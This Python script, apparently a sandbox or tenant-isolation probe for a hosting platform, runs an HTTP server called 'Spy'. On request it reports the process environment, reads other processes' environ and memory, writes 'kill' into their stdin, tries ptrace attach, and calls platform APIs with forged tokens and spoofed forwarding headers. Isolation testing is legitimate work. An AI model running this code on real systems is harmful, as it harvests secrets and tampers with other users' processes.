"""A study that looks around: what it gets to see of the platform and of others, as JSON."""
import ctypes, http.server, json, os, socket, sys, urllib.error, urllib.parse, urllib.request

PTRACE_ATTACH = 16


def attempt(act):
    try:
        return act()
    except BaseException as error:
        return f'refused: {type(error).__name__} {getattr(error, "errno", "") or getattr(error, "code", "")}'


def read(path):
    with open(path, 'rb') as file:
        return file.read(1 << 16).decode('utf-8', 'replace')


def attach(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), 'ptrace')
    return 'attached'


def ask(address, path, headers):
    request = urllib.request.Request(address + path, headers=headers)
    return urllib.request.urlopen(request, timeout=30).read().decode()


def look_at(pid):
    return {
        'environ': attempt(lambda: read(f'/proc/{pid}/environ')),
        'maps': attempt(lambda: read(f'/proc/{pid}/maps')),
        'memory': attempt(lambda: read(f'/proc/{pid}/mem')),
        'files': attempt(lambda: os.listdir(f'/proc/{pid}/fd')),
        'pipe': attempt(lambda: open(f'/proc/{pid}/fd/0', 'wb').write(b'"kill"\n')),
        'ptrace': attempt(lambda: attach(pid)),
    }


def report(asked):
    address = asked['address'][0]
    host = address.split('://')[1]
    tried = [
        {},
        {'Authorization': 'Bearer'},
        {'Authorization': 'Bearer ' + '0' * 64},
        {'Authorization': 'Basic ' + 'Og=='},
        {'X-Forwarded-For': '127.0.0.1', 'X-Forwarded-Host': host},
    ]
    paths = ['/apps', '/apps/other/config-vars', '/apps/other/releases', '/account', '/oauth/authorizations']
    sockets = [f'{folder}/.s.PGSQL.{port}' for folder in ('/tmp', '/var/run/postgresql', '/run/postgresql')
               for port in asked['postgres'] + ['5432']]
    return {
        'environment': dict(os.environ),
        'parent': os.getppid(),
        'files': {number: attempt(lambda: os.readlink(f'/proc/self/fd/{number}')) for number in os.listdir('/proc/self/fd')},
        'processes': {pid: look_at(int(pid)) for pid in asked['pid'] + [str(os.getppid())]},
        'api': [attempt(lambda: ask(address, path, headers)) for path in paths for headers in tried],
        'sockets': [path for path in sockets if os.path.exists(path)],
    }


class Spy(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        asked = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
        text = json.dumps(report(asked) if asked else 'ready').encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(text)))
        self.end_headers()
        self.wfile.write(text)


http.server.ThreadingHTTPServer(('127.0.0.1', int(os.environ['PORT'])), Spy).serve_forever()
